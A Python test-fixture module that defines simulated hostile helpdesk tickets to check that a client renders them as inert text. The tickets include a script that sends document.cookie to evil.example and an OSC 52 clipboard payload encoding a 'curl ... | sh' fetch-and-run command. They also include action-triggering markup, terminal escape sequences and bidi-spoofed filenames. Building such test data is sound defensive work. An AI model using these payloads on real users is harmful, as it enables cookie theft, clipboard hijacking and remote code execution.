"""Hostile text that real desks receive, so the client's defences are exercised.

Pasted logs, mail signatures and malicious senders put terminal markup, ANSI/OSC escape
sequences, bidi overrides, CDATA terminators and control characters into subjects and
bodies. Every simulated desk carries a few such tickets; the client must show them as
inert text. ESC-based sequences may be stripped by a server's own cleaning (Kayako drops
C0 controls from XML); their 8-bit C1 forms and bidi controls are not.
"""

from __future__ import annotations

from dataclasses import dataclass

OSC52_PAYLOAD = "Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS9wIHwgc2g="  # base64 "curl -s ... | sh"


@dataclass(frozen=True, slots=True)
class Hostile:
    """A hostile first message: its subject, body, sender name, and an attachment name."""

    subject: str
    body: str
    fullname: str = ""
    html: bool = False
    attachment: str = ""


HOSTILE: tuple[Hostile, ...] = (
    Hostile(
        "[bold red]URGENT[/bold red] payroll export failing - "
        "[link=https://evil.example/x]details[/link]",
        "Hi,\n\nPayroll export fails again. My signature tool adds formatting, sorry:\n"
        "[b]Bold[/b] [i]italic[/i] [/] [red on white]red[/]\n\n"
        "[@click=app.quit]Click here to keep your session[/]\n\nThanks,\nFinance",
    ),
    Hostile(
        "Can't sign in [@click=app.quit]Reset session[/]",
        '<div dir="ltr"><p>Hello,</p><p onclick="alert(1)">I cannot sign in since this '
        'morning.</p><script>document.location="https://evil.example/?c="+document.cookie'
        '</script><p><a href="javascript:alert(document.domain)">Click to verify</a></p>'
        "<p>[@click=app.bell]bell[/] [bold]not bold[/bold]</p></div>",
        fullname="[reverse]Mallory[/reverse] Ops",
        html=True,
    ),
    Hostile(
        "Printer shows \x9b31mPAPER JAM\x9b0m on every job",
        "The printer display log I copied:\n\n\x1b[2J\x1b[H\x1b[31mRED ALERT\x1b[0m\n"
        "\x9b2J\x9b1;1H\x9b5mBLINKING\x9b0m\n\nCan someone come and look?",
    ),
    Hostile(
        "Clipboard weirdness after pasting from the portal",
        "When I paste the activation code I get this:\n\n"
        f"\x1b]52;c;{OSC52_PAYLOAD}\x07\n"
        f"\x9d52;c;{OSC52_PAYLOAD}\x9c\n"
        "\x1b]0;PWNED\x07\x9d0;PWNED TITLE\x9c\n"
        "\x9d8;;https://evil.example\x9cinnocent link\x9d8;;\x9c\n\nIs my PC infected?",
    ),
    Hostile(
        "Refund request: invoice_2024\u202efdp.exe attached",
        "Please refund the attached invoice: invoice_2024\u202efdp.exe\n"
        "Reference: \u2066ABC-\u202e321\u202c-999\u2069 (copied from your portal)\n"
        "Amount: \u200f€1,250.00\u200e",
        attachment="invoice_2024\u202efdp.exe",
    ),
    Hostile(
        "Weird characters:\x00 null\x07 bell \u200bzero-width \ufeffBOM and ]]> CDATA end",
        'Config snippet that fails to import:\n\n  if (a[b[0]]>1) { x = "]]>"; }\n'
        "  <![CDATA[ nested ]]>\n\x08\x08\x08\x7f backspaces and DEL\n"
        "Tab\tand\r\ncarriage return.",
    ),
)
